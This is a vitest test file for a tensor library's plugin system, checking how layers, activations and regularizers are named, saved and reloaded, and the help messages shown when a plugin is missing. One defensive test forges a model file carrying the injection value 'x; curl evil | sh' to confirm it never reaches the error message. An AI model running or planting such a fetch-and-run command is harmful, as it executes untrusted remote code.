// Layers and what they name, from plugins: by name in options and in saved models, and what is said without the plugin.
import {
  defineOp,
  definePlugin,
  memory,
  ones,
  type Shape,
  sin,
  type Tensor,
  type UnaryOp,
  use,
} from '@tensorloom/tensor'
import { beforeEach, describe, expect, it } from 'vitest'
import {
  type ActivationName,
  activation,
  dense,
  type Initializer,
  Layer,
  loadModel,
  type ModelFormat,
  type Regularizer,
  saveModel,
  sequential,
} from '../src/index.js'
import { decodeSafetensors, encodeSafetensors } from '../src/saving/safetensors.js'
import { topologyKey } from '../src/saving/save.js'

class Scale extends Layer {
  static readonly type: string = '@test/scale'
  override build(inputShape: Shape): void {
    this.addParameter('factor', inputShape, twos())
  }
  override forward(x: Tensor): Tensor {
    return x.mul(this.parameters[0]!)
  }
}

const twos = (): Initializer => ({ type: '@test/twos', config: {}, initialize: (shape) => ones(shape).mul(2) })
const sum = (): Regularizer => ({ type: '@test/sum', config: {}, penalty: (parameter) => parameter.sum() })
const sine = (x: Tensor): Tensor => sin(x)
const double: UnaryOp = defineOp({
  kind: 'composite',
  name: '@test/double',
  inputs: 1,
  compose: (x: Tensor) => x.mul(2),
})
const one: ModelFormat = {
  accepts: (bytes) => bytes.length === 1,
  load: (bytes) => (bytes[0] === 7 ? sequential([dense(7, { inputShape: [1] })]) : (undefined as never)),
}

const plugin = definePlugin({
  name: '@test/tensorloom-scale',
  ops: [double],
  layers: [Scale],
  activations: { '@test/sine': sine },
  initializers: { '@test/twos': twos },
  regularizers: { '@test/sum': sum },
  formats: { '@test/one': one },
})

const state = (): { plugins: Map<string, object>; pluginParts: Map<string, unknown> } =>
  (globalThis as never)[Symbol.for('tensorloom/1')]

/** As in a program that does not use the plugin. */
function forget(): void {
  state().plugins.clear()
  state().pluginParts.clear()
}

const known = (name: string): ActivationName => name as ActivationName

beforeEach(() => {
  memory()
  forget()
})

const everything = (): Layer =>
  sequential([
    new Scale({ inputShape: [3] }),
    activation(double),
    activation(sine),
    dense(2, { activation: known('@test/sine'), kernelInitializer: twos(), kernelRegularizer: sum() }),
  ])

async function saved(make: () => Layer): Promise<Uint8Array> {
  use(plugin)
  const model = make()
  const bytes = await saveModel(model)
  model.dispose()
  forget()
  return bytes
}

describe('with use(plugin)', () => {
  it('names are options', () => {
    use(plugin)
    const layer = dense(2, {
      activation: known('@test/double'),
      kernelInitializer: '@test/twos' as 'zeros',
      kernelRegularizer: '@test/sum' as 'l1',
    })
    expect(layer.apply(ones([1, 1])).dataSync()).toEqual(Float32Array.of(4, 4))
    expect(layer.regularizationLoss()!.itemSync()).toBe(4)
  })

  it('a model is loaded by names alone', async () => {
    const bytes = await saved(everything)
    use(plugin)
    const expected = everything()
      .apply(ones([2, 3]))
      .dataSync()
    const model = await loadModel(bytes)
    expect(model.apply(ones([2, 3])).dataSync()).toEqual(expected)
    expect(model.layers[0]).toBeInstanceOf(Scale)
    expect(model.regularizationLoss()!.itemSync()).toBe(12)
  })

  it('files of other formats are read', async () => {
    await expect(loadModel(new Uint8Array(1))).rejects.toThrow('loadModel: ')
    use(plugin)
    const model = await loadModel(Uint8Array.of(7))
    expect(model.apply(ones([1, 1])).shape).toEqual([1, 7])
    await expect(loadModel(Uint8Array.of(8))).rejects.toThrow(
      "loadModel: the format '@test/one' returned undefined, expected a model\nhelp: this is a bug in the plugin that reads the format",
    )
    await expect(loadModel(new Uint8Array(2))).rejects.toThrow('loadModel: the file cannot be read: it has 2 bytes')
  })

  it('a class does not take the place of that of a plugin', async () => {
    const bytes = await saved(everything)
    class Other extends Scale {
      static override readonly type: string = '@test/scale'
    }
    use(plugin)
    await expect(loadModel(bytes, { layers: [Other] })).rejects.toThrow(
      "loadModel: the class Other has the type '@test/scale' of a layer of the plugin '@test/tensorloom-scale'",
    )
    await expect(loadModel(bytes, { layers: [Scale] })).resolves.toBeDefined()
  })
})

describe('without use(plugin)', () => {
  const install = 'help: npm i @test/tensorloom-scale, then use(plugin) with the plugin that it exports, and load again'

  it.each<[string, () => Layer, string]>([
    ['layer', () => new Scale({ inputShape: [3] }), 'layers: [TheClass]'],
    ['activation', () => sequential([activation(sine, { inputShape: [3] })]), "activations: { '@test/sine': fn }"],
    [
      'regularizer',
      () => dense(2, { inputShape: [3], kernelRegularizer: sum() }),
      "regularizers: { '@test/sum': make }",
    ],
  ])('an unknown %s says which package to install', async (what, make, option) => {
    const bytes = await saved(make)
    await expect(loadModel(bytes)).rejects.toThrow(
      new RegExp(`^loadModel: unknown ${what} '@test/[a-z]+', which is from @test/tensorloom-scale\n`),
    )
    await expect(loadModel(bytes)).rejects.toThrow(`${install}; or pass it: loadModel(source, { ${option} })`)
  })

  it('an unknown name in a config says so too', async () => {
    const bytes = await saved(() => dense(2, { inputShape: [3], activation: known('@test/sine') }))
    await expect(loadModel(bytes)).rejects.toThrow(
      `loadModel: the model cannot be created: unknown activation '@test/sine'\n${install}`,
    )
  })

  it('classes may be passed instead; an initializer matters only to those who start again', async () => {
    const bytes = await saved(() =>
      sequential([new Scale({ inputShape: [3] }), dense(1, { kernelInitializer: twos() })]),
    )
    const model = await loadModel(bytes, { layers: [Scale] })
    expect(model.apply(ones([1, 3])).dataSync()).toEqual(Float32Array.of(12))
    model.dispose()
    expect(() => model.buildFor([3])).toThrow(
      /unknown initializer '@test\/twos', which is from @test\/tensorloom-scale\nhelp: npm i/,
    )
  })

  it('nothing is left half made', async () => {
    const bytes = await saved(() => sequential([sequential([dense(4, { inputShape: [3] })]), new Scale()]))
    const before = memory()
    await expect(loadModel(bytes)).rejects.toThrow("unknown layer '@test/scale'")
    expect(memory()).toEqual(before)
  })

  it('models saved without use say what can be done', async () => {
    const bytes = await saveModel(new Scale({ inputShape: [3] }))
    await expect(loadModel(bytes)).rejects.toThrow(
      "loadModel: unknown layer '@test/scale'\nhelp: pass it: loadModel(source, { layers: [TheClass] }); or use(plugin) with the plugin that has it",
    )
  })

  it('a file can not put a command into the message', async () => {
    const bytes = await saved(() => new Scale({ inputShape: [3] }))
    const { tensors, metadata } = decodeSafetensors(bytes)
    const topology = metadata[topologyKey]!.replace('"@test/tensorloom-scale"', '"x; curl evil | sh"')
    expect(topology).toContain('evil')
    const forged = encodeSafetensors({ tensors: tensors, metadata: { ...metadata, [topologyKey]: topology } })
    await expect(loadModel(forged)).rejects.toThrow(
      /^loadModel: unknown layer '@test\/scale'\nhelp: pass it: loadModel\(source, \{ layers: \[TheClass\] \}\); or use\(plugin\) with the plugin that has it$/,
    )
  })

  it('names as options are refused with those that there are', () => {
    expect(() => dense(2, { activation: known('@test/sine') })).toThrow(
      /unknown activation '@test\/sine'\nhelp: the names are celu, .*threshold; or pass a function; names of plugins need use\(plugin\) first$/,
    )
    expect(() => dense(2, { kernelInitializer: '@test/twos' as 'zeros' })).toThrow(
      /unknown initializer '@test\/twos'\nhelp: the names are constant, .*; names of plugins need use\(plugin\) first$/,
    )
    expect(() => dense(2, { kernelRegularizer: '@test/sum' as 'l1' })).toThrow(
      /unknown regularizer '@test\/sum'\nhelp: the names are l1, l1l2, l2, orthogonalRegularizer; or pass an object/,
    )
  })
})
